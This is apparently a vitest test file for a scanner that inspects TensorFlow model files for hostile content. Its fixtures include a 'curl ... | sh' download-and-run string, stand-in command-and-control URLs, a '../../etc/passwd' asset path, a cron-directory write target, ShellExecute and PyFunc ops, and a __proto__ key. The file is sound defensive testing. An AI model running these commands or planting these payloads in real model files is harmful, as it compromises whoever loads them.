// Hand-built TensorFlow graphs (test/builders/tensorflow.ts) for attacks the real tools do not write.
import { describe, expect, it } from 'vitest';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { attr, deeplyNestedAttr, graph, graphDef, kerasMetadata, metaGraph, node, pb, savedModel, stringConst } from '../builders/tensorflow';
import { MAX_DECODED_NODES, countDecodedObjects } from '../../src/engine/formats/tensorflow/parse';

const run = (bytes: Uint8Array, name = 'saved_model.pb', limits = {}) => scan(fromBytes(bytes, name), { limits });
const only = (r: FileReport, id: string) => r.findings.filter((f) => f.ruleId === id);
const serious = (r: FileReport) => r.findings.filter((f) => f.severity === 'critical' || f.severity === 'warning');

describe('tensorflow: ops outside the stock op set', () => {
  it('a ShellExecute custom op is a suspicious custom op (WARNING) at its node', async () => {
    const r = await run(graphDef([{ name: 'x', op: 'Placeholder' }, { name: 'run', op: 'ShellExecute', inputs: ['x'] }]), 'frozen.pb');
    expect(only(r, 'tensorflow/suspicious-custom-op')).toEqual([expect.objectContaining({ severity: 'warning', evidence: 'ShellExecute',
      location: { path: ['frozen.pb'], pointer: 'node/1' } })]);
    expect(only(r, 'tensorflow/nonstandard-op')).toEqual([]);
  });

  it('three nodes of an Addons op give one nonstandard-op WARNING naming the count', async () => {
    const op = 'Addons>GeluActivation';
    const r = await run(graphDef([0, 1, 2].map((i) => ({ name: `g${i}`, op }))), 'frozen.pb');
    const hits = only(r, 'tensorflow/nonstandard-op');
    expect(hits).toHaveLength(1);
    expect(hits[0]!.message).toMatch(/3 nodes/);
  });

  it('a node whose op is a library function name is a call, not a custom op', async () => {
    const r = await run(graphDef([{ name: 'call', op: 'my_fn' }], [{ name: 'my_fn', nodes: [{ name: 'i', op: 'Identity' }] }]), 'frozen.pb');
    expect(serious(r)).toEqual([]);
  });
});

describe('tensorflow: Python ops hidden in nested functions', () => {
  it('EagerPyFunc two calls deep (PartitionedCall → outer → inner) is CRITICAL with its caller named', async () => {
    const bytes = savedModel([{ graph: graph([{ name: 'call', op: 'PartitionedCall', attrs: { f: attr.func('outer') } }], [
      { name: 'outer', nodes: [{ name: 'c2', op: 'StatefulPartitionedCall', attrs: { f: attr.func('inner') } }] },
      { name: 'inner', nodes: [{ name: 'py', op: 'EagerPyFunc', attrs: { token: attr.s('pyfunc_7') } }] },
    ]) }]);
    const r = await run(bytes);
    expect(only(r, 'tensorflow/python-op')).toEqual([expect.objectContaining({ severity: 'critical', evidence: 'token=pyfunc_7',
      location: { path: ['saved_model.pb'], pointer: 'meta_graphs/0/graph_def/library/function/1/node_def/0' } })]);
    expect(only(r, 'tensorflow/python-op')[0]!.message).toMatch(/function inner \(called from function outer, node "c2"\)/);
  });

  it('PyFunc in a second meta graph is found too', async () => {
    const r = await run(savedModel([{ graph: graph([{ name: 'a', op: 'Const' }]) }, { tags: ['train'], graph: graph([{ name: 'p', op: 'PyFunc' }]) }]));
    expect(only(r, 'tensorflow/python-op')[0]!.location.pointer).toBe('meta_graphs/1/graph_def/node/0');
  });
});

describe('tensorflow: file paths', () => {
  it('SaveV2 fed by a constant absolute path: checkpoint-path WARNING; fed by the loader placeholder: nothing', async () => {
    const bad = await run(graphDef([stringConst('fn', '/etc/cron.d/job'), { name: 'save', op: 'SaveV2', inputs: ['fn:0'] }]), 'g.pb');
    expect(only(bad, 'tensorflow/checkpoint-path')).toEqual([expect.objectContaining({ severity: 'warning', evidence: '/etc/cron.d/job', location: { path: ['g.pb'], pointer: 'node/1' } })]);
    const good = await run(graphDef([{ name: 'saver_filename', op: 'Placeholder' }, { name: 'save', op: 'SaveV2', inputs: ['saver_filename'] }]), 'g.pb');
    expect(serious(good)).toEqual([]);
  });

  it('WriteFile to a relative path inside the folder stays a WARNING', async () => {
    const r = await run(graphDef([stringConst('p', 'out/log.txt'), { name: 'w', op: 'WriteFile', inputs: ['p', 'p'] }]), 'g.pb');
    expect(only(r, 'tensorflow/file-access')).toEqual([expect.objectContaining({ severity: 'warning', evidence: 'out/log.txt' })]);
  });

  it('an asset named ../../etc/passwd is reported; a plain asset becomes a folder reference', async () => {
    const r = await run(savedModel([{ graph: graph([{ name: 'a', op: 'Const' }]), assets: ['../../etc/passwd', 'vocab.txt'], saver: true }]));
    expect(only(r, 'tensorflow/asset-path')).toEqual([expect.objectContaining({ severity: 'warning', location: { path: ['saved_model.pb'], pointer: 'meta_graphs/0/asset_file_def/0/filename' } })]);
    expect(r.nodes[0]!.notes!.references).toEqual([{ path: 'assets/vocab.txt', kind: 'asset' }, { path: 'variables/variables.index', kind: 'variables' }]);
  });

  it('ImmutableConst maps a memory region: WARNING naming it', async () => {
    const r = await run(graphDef([{ name: 'm', op: 'ImmutableConst', attrs: { memory_region_name: attr.s('weights.mm') } }]), 'g.pb');
    expect(only(r, 'tensorflow/memmapped-tensor')).toEqual([expect.objectContaining({ evidence: 'weights.mm', location: { path: ['g.pb'], pointer: 'node/0/attr/memory_region_name' } })]);
  });

  it('benign stream and descriptor settings (stderr, local://, bytes://) raise nothing', async () => {
    const r = await run(graphDef([
      { name: 'p', op: 'PrintV2', attrs: { output_stream: attr.s('stderr') } },
      { name: 'd', op: 'DecodeProtoV2', attrs: { descriptor_source: attr.s('local://') } },
      { name: 'e', op: 'EncodeProto', attrs: { descriptor_source: attr.s('bytes://\n\x04x.proto') } },
    ]), 'g.pb');
    expect(serious(r)).toEqual([]);
  });
});

describe('tensorflow: strings in attributes go to the string detectors with a pointer', () => {
  it('a Const string tensor with a download-and-run command is reported at its string_val', async () => {
    const r = await run(graphDef([stringConst('cmd', 'curl http://203.0.113.9/x.sh | sh')]), 'g.pb');
    const at = r.findings.filter((f) => f.location.pointer === 'node/0/attr/value/tensor/string_val/0');
    expect(at.length).toBeGreaterThan(0);
  });

  it('an attr keyed __proto__ is inspected and pollutes nothing', async () => {
    const r = await run(graphDef([{ name: 'n', op: 'NoOp', attrs: { ['__proto__']: attr.s('http://evil-c2.top/payload') } }]), 'g.pb');
    expect(({} as Record<string, unknown>).s).toBeUndefined();
    expect(r.findings.some((f) => f.location.pointer === 'node/0/attr/__proto__/s')).toBe(true);
  });

  it('text in a TF1 collection is inspected', async () => {
    const r = await run(savedModel([{ graph: graph([{ name: 'a', op: 'Const' }]), collections: { hooks: ['http://evil-c2.top/beacon'] } }]));
    expect(r.findings.some((f) => f.location.pointer === 'meta_graphs/0/collection_def/hooks/bytes_list/value/0')).toBe(true);
  });
});

describe('tensorflow: Keras 2 metadata in the object graph', () => {
  it('a Lambda config in SavedObjectGraph user_object metadata goes to the Keras judge', async () => {
    const lambda = JSON.stringify({ class_name: 'Lambda', config: { name: 'evil', function: ['4wEAAAAA\n', null, null], function_type: 'lambda' } });
    const r = await run(savedModel([{ graph: graph([{ name: 'a', op: 'Const' }]), userObjects: [{ identifier: '_tf_keras_layer', metadata: lambda }] }]));
    const hits = only(r, 'keras/lambda-bytecode');
    expect(hits).toHaveLength(1);
    expect(hits[0]!.location.pointer).toMatch(/^meta_graphs\/0\/object_graph_def\/nodes\/0\/user_object\/metadata\/config\/function/);
  });

  it('keras_metadata.pb whose metadata is not JSON is still swept as text', async () => {
    const r = await run(kerasMetadata([{ identifier: '_tf_keras_model', metadata: 'not json http://evil-c2.top/x' }]), 'keras_metadata.pb');
    expect(r.format).toBe('tensorflow');
    expect(r.findings.some((f) => f.location.pointer === 'nodes/0/metadata')).toBe(true);
  });
});

describe('tensorflow: hostile structure', () => {
  it('attrs nested 300 levels deep: format/malformed (protobuf recursion limit), not a crash', async () => {
    const r = await run(deeplyNestedAttr(300), 'g.pb');
    expect(r.format).toBe('tensorflow');
    expect(only(r, 'format/malformed')).toHaveLength(1);
    expect(only(r, 'scan/internal-error')).toEqual([]);
    expect(r.complete).toBe(false);
  });

  it('a graph larger than maxMemberBytes is not read: limit reached, incomplete', async () => {
    const r = await run(graphDef([{ name: 'a', op: 'Const' }, { name: 'b', op: 'Identity', inputs: ['a'] }]), 'g.pb', { maxMemberBytes: 16 });
    expect(only(r, 'scan/limit-reached')).toHaveLength(1);
    expect(r.complete).toBe(false);
  });

  it('a SavedModel of more nodes than are decoded per file is refused before decoding: limit reached, incomplete', async () => {
    // MAX_DECODED_NODES + 1 empty NodeDefs (2 bytes each) after one PyFunc: a 330 MB graph of tiny
    // nodes once ran the scan out of memory in the decoder; now nothing is decoded, and the file says so.
    const nodes = new Uint8Array(2 * (MAX_DECODED_NODES + 1));
    for (let i = 0; i < nodes.length; i += 2) nodes[i] = 0x0a;
    const head = pb(graph([{ name: 'p', op: 'PyFunc' }]));
    const bytes = savedModel([{ graph: [[1, node({ name: 'p', op: 'PyFunc' })]] }]);
    const big = pb([[1, 1], [2, [[2, Uint8Array.from([...head, ...nodes])]]]]);
    expect(countDecodedObjects(bytes, 'saved-model')).toBe(1);
    expect(countDecodedObjects(big, 'saved-model')).toBe(MAX_DECODED_NODES + 2);
    const r = await run(big);
    expect(only(r, 'scan/limit-reached').map((f) => f.message)).toEqual([expect.stringMatching(/SavedModel of 1000002 nodes is above the 1000000/)]);
    expect(r.complete).toBe(false);
    expect(r.status).toBe('error');
  });

  it('counts the nodes of library functions and of every meta graph, and Keras metadata objects', () => {
    const fns = [{ name: 'f', nodes: [{ name: 'a', op: 'Identity' }, { name: 'b', op: 'Identity' }] }];
    expect(countDecodedObjects(graphDef([{ name: 'x', op: 'Const' }], fns), 'graph-def')).toBe(3);
    expect(countDecodedObjects(savedModel([{ graph: graph([{ name: 'x', op: 'Const' }]) }, { graph: graph([], fns) }]), 'saved-model')).toBe(3);
    expect(countDecodedObjects(pb(metaGraph({ graph: graph([{ name: 'x', op: 'Const' }], fns) })), 'meta-graph')).toBe(3);
    expect(countDecodedObjects(kerasMetadata([{ identifier: 'a', metadata: '{}' }, { identifier: 'b', metadata: '{}' }]), 'keras-metadata')).toBe(2);
  });

  it('junk named saved_model.pb is claimed by name and reported malformed, never clean', async () => {
    const r = await run(Uint8Array.from({ length: 64 }, (_, i) => (i * 37 + 0xf7) & 0xff));
    expect(r.format).toBe('tensorflow');
    expect(r.status).toBe('error');
  });
});

describe('tensorflow: sniffing claims protobuf structure, not names', () => {
  it('a SavedModel renamed model.bin is still a SavedModel', async () => {
    const r = await run(savedModel([{ graph: graph([{ name: 'p', op: 'PyFunc' }]) }]), 'model.bin');
    expect(r.format).toBe('tensorflow');
    expect(only(r, 'tensorflow/python-op')).toHaveLength(1);
  });

  it('pickles, text and random bytes named .pb are left to other scanners', async () => {
    const pickle = Uint8Array.from([0x80, 0x04, 0x95, 0x05, 0, 0, 0, 0, 0, 0, 0, 0x4b, 0x01, 0x2e]);
    for (const [bytes, name] of [[pickle, 'saved_model.pb'], [new TextEncoder().encode('node { name: "a" op: "Const" }\n'), 'graph.pb'],
      [Uint8Array.from({ length: 256 }, (_, i) => (i * 131 + 7) & 0xff), 'random.pb']] as const) {
      expect((await run(bytes, name)).format).not.toBe('tensorflow');
    }
  });

  it('an ONNX-shaped protobuf (ir_version, producer_name) is not a SavedModel', async () => {
    const onnx = pb([[1, 8], [2, 'pytorch'], [3, '2.1.0'], [8, [[2, 17]]]]);
    expect((await run(onnx, 'model.pb')).format).not.toBe('tensorflow');
  });
});

describe('tensorflow: text-format graphs (.pbtxt)', () => {
  const enc = (t: string) => new TextEncoder().encode(t);
  it('a custom ShellExecute op in a text graph is reported at its line', async () => {
    const text = 'node {\n  name: "x"\n  op: "Placeholder"\n}\nnode {\n  name: "r"\n  op: "ShellExecute"\n  input: "x"\n}\n';
    const r = await run(enc(text), 'graph.pbtxt');
    const hit = only(r, 'tensorflow/suspicious-custom-op');
    expect(hit).toEqual([expect.objectContaining({ severity: 'warning', evidence: 'ShellExecute' })]);
    expect(text.slice(hit[0]!.location.offset!)).toMatch(/^\s*op: "ShellExecute"/);
  });

  it('a .pbtxt that is not a TensorFlow graph is not claimed', async () => {
    expect((await run(enc('layer {\n  name: "conv1"\n  type: "Convolution"\n}\n'), 'deploy.pbtxt')).format).not.toBe('tensorflow');
  });
});

